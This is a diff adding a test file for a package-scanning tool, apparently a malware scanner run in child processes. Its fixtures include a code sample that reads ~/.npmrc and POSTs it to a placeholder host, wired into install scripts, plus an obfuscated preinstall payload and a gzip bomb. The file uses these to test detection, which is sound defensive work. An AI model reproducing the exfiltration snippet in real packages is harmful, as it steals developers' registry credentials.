@@ -1,0 +1,193 @@
+/** Promises about scanning in children: everything is accounted for, and a dead child is never a clean report. */
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, test } from 'node:test';
+import { gzipSync } from 'node:zlib';
+import { isAssayError } from '../core/errors.ts';
+import { file, tarball } from '../../test/support/tar-builder.ts';
+import { createScanner, defaultScanLimits, type ScanLimits, type ScannerDeath } from './scanner.ts';
+
+const folder = mkdtempSync(join(tmpdir(), 'assay-scan-'));
+after(() => rmSync(folder, { recursive: true, force: true }));
+
+const manifest = (fields: object = {}): ReturnType<typeof file> =>
+  file('package/package.json', JSON.stringify({ name: 'x', version: '1.0.0', ...fields }));
+
+let files = 0;
+function stored(bytes: Uint8Array): string {
+  files += 1;
+  const path = join(folder, `${files}.tgz`);
+  writeFileSync(path, bytes);
+  return path;
+}
+
+async function withScanner<T>(
+  run: (scanner: ReturnType<typeof createScanner>, deaths: readonly ScannerDeath[]) => Promise<T>,
+  limits: Partial<ScanLimits> = {},
+): Promise<T> {
+  const deaths: ScannerDeath[] = [];
+  const scanner = createScanner({
+    nodePath: process.execPath,
+    readable: [`${folder}/`],
+    limits: { ...defaultScanLimits, ...limits },
+    children: 1,
+    onDeath: (death) => deaths.push(death),
+  });
+  try {
+    return await run(scanner, deaths);
+  } finally {
+    await scanner.close();
+  }
+}
+
+const steals = `const f = require('fs'); const t = f.readFileSync(process.env.HOME + '/.npmrc', 'utf8');
+fetch('https://c.example', { method: 'POST', body: t });`;
+
+test('a child reads the package.json itself, follows the install script and tells line and text', () =>
+  withScanner(async (scanner) => {
+    const bytes = tarball(
+      manifest({ scripts: { postinstall: 'node ./scripts/go' } }),
+      file('package/scripts/go.js', "require('../lib/work');"),
+      file('package/lib/work.js', steals),
+      file('package/LICENSE', 'no licence text that anybody knows'),
+    );
+    const report = await scanner.scan(stored(bytes), bytes.length);
+    const found = report.findings.find(({ rule }) => rule === 'malware/exfiltrate-credentials');
+    assert.equal(found?.severity, 'critical');
+    assert.equal(found.path, 'lib/work.js');
+    assert.equal(found.line, 2);
+    assert.match(found.excerpt ?? '', /fetch\('https:\/\/c\.example'/);
+    assert.ok((report.score?.value ?? 0) >= 9);
+    assert.ok(
+      report.score?.because.some((part) => part.includes('malware/exfiltrate-credentials (critical)')),
+    );
+    assert.ok(report.fingerprint.capabilities.includes('install:network'));
+    assert.deepEqual(report.fingerprint.hosts, ['c.example']);
+    assert.equal(report.bytesScanned, report.bytesPresent);
+  }));
+
+test('a folder is scanned without what was installed into it, and no link is followed', () =>
+  withScanner(async (scanner) => {
+    const root = join(folder, 'project');
+    mkdirSync(join(root, 'node_modules'), { recursive: true });
+    writeFileSync(join(root, 'package.json'), '{"main":"a.js"}');
+    writeFileSync(join(root, 'a.js'), steals);
+    writeFileSync(join(root, 'node_modules', 'b.js'), steals);
+    symlinkSync('/etc', join(root, 'link'));
+    const report = await scanner.scanFolder(root);
+    assert.deepEqual(
+      report.findings.map(({ rule, path }) => `${rule} ${path}`),
+      [
+        'malware/exfiltrate-credentials a.js',
+        'malware/credentials-near-network a.js',
+        'limits/not-scanned link',
+      ],
+    );
+  }));
+
+test('a member over the limit is a finding, and its bytes are counted as present and not scanned', () =>
+  withScanner(
+    async (scanner) => {
+      const bytes = tarball(manifest(), file('package/big.js', 'x'.repeat(5000)));
+      const report = await scanner.scan(stored(bytes), bytes.length);
+      assert.deepEqual(
+        report.findings.map(({ rule, path }) => [rule, path]),
+        [['limits/not-scanned', 'big.js']],
+      );
+      assert.equal(report.bytesPresent - report.bytesScanned, 5000);
+    },
+    { memberBytes: 4096 },
+  ));
+
+test('an 11 MB file of one line is searched, and that it was not parsed is a finding', () =>
+  withScanner(async (scanner) => {
+    const part = (at: number): string => `(function(){return _0x1a2b3c(${(at * 2_654_435_761) % 1e9});})();`;
+    const line = `const _0x1a2b3c=!![];${Array.from({ length: 270_000 }, (_, at) => part(at)).join('')}`;
+    assert.ok(line.length > 11_000_000);
+    const bytes = tarball(
+      manifest({ scripts: { preinstall: 'node setup.js' } }),
+      file('package/setup.js', "require('./payload.js')"),
+      file('package/payload.js', line),
+    );
+    const report = await scanner.scan(stored(bytes), bytes.length);
+    const rules = report.findings.map(({ rule, path }) => `${rule} ${path}`);
+    for (const expected of [
+      'malware/install-payload payload.js',
+      'malware/obfuscated payload.js',
+      'limits/not-parsed payload.js',
+    ])
+      assert.ok(rules.includes(expected), `${expected} in ${rules.join(', ')}`);
+    assert.equal(report.bytesScanned, report.bytesPresent);
+  }));
+
+/** Reached by an install script, so that all of it is parsed. */
+function hostile(code: string): Buffer {
+  return tarball(manifest({ scripts: { install: 'node i.js' } }), file('package/i.js', code));
+}
+
+test('nesting that ends a parser is a finding or SCAN_FAILED, never a clean report, and the pool goes on', () =>
+  withScanner(async (scanner, deaths) => {
+    const cases: Readonly<Record<string, string>> = {
+      brackets: '['.repeat(100_000),
+      calls: `${'a('.repeat(50_000)}${')'.repeat(50_000)}`,
+      negations: `${'!'.repeat(300_000)}a`,
+      arrows: `${'a=>'.repeat(100_000)}a`,
+      sums: `x=${'1+'.repeat(200_000)}1`,
+      members: `x${'.a'.repeat(200_000)}`,
+      ternaries: `x=${'a?b:'.repeat(100_000)}c`,
+      ifs: `${'if(a);else '.repeat(60_000)};`,
+    };
+    for (const [name, code] of Object.entries(cases)) {
+      const bytes = hostile(code);
+      const told = await scanner.scan(stored(bytes), bytes.length).then(
+        ({ findings, parsedFiles }) =>
+          parsedFiles === 1 || findings.some(({ area }) => area === 'limits') ? 'told' : 'clean',
+        (error: unknown) => (isAssayError(error, 'SCAN_FAILED') ? 'failed' : String(error)),
+      );
+      assert.ok(told === 'told' || told === 'failed', `${name}: ${told}`);
+    }
+    const bytes = hostile(steals);
+    assert.ok(((await scanner.scan(stored(bytes), bytes.length)).score?.value ?? 0) >= 9);
+    for (const { reason } of deaths) assert.ok(['died', 'memory', 'cpu'].includes(reason), reason);
+  }));
+
+test('an archive that unpacks beyond its limits, is cut off or is none at all is SCAN_FAILED', () =>
+  withScanner(
+    async (scanner) => {
+      const bomb = gzipSync(Buffer.alloc(8_000_000));
+      const cut = tarball(manifest(), file('package/a.js', steals)).subarray(0, 150);
+      for (const bytes of [bomb, cut, Buffer.from('no archive'), Buffer.alloc(0)]) {
+        await assert.rejects(scanner.scan(stored(bytes), bytes.length), { code: 'SCAN_FAILED' });
+      }
+    },
+    { unpackedBytes: 4_000_000 },
+  ));
+
+test('a child that grows over its memory is SCAN_FAILED', () =>
+  withScanner(
+    async (scanner) => {
+      const bytes = hostile(`x=[${'{a:[1,[2,"b"+c]]},'.repeat(50_000)}]`);
+      await assert.rejects(scanner.scan(stored(bytes), bytes.length), { code: 'SCAN_FAILED' });
+    },
+    { residentBytes: 80 * 1024 * 1024 },
+  ));
+
+test('bytes that are no text, in names of text, are scanned without a fault', () =>
+  withScanner(async (scanner) => {
+    const noise = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 197 + 13) % 256));
+    const bytes = tarball(
+      manifest({ scripts: { install: 'node i.js' } }),
+      file(
+        'package/i.js',
+        Buffer.concat([Buffer.from("eval(atob('"), noise.filter((b) => b > 0x7f), Buffer.from("'))")]),
+      ),
+      file('package/a.sh', noise),
+      file('package/b.json', noise),
+    );
+    const report = await scanner.scan(stored(bytes), bytes.length);
+    assert.equal(report.files, 4);
+    for (const { excerpt, path } of report.findings)
+      assert.ok((excerpt ?? '').isWellFormed() && path.isWellFormed());
+  }));
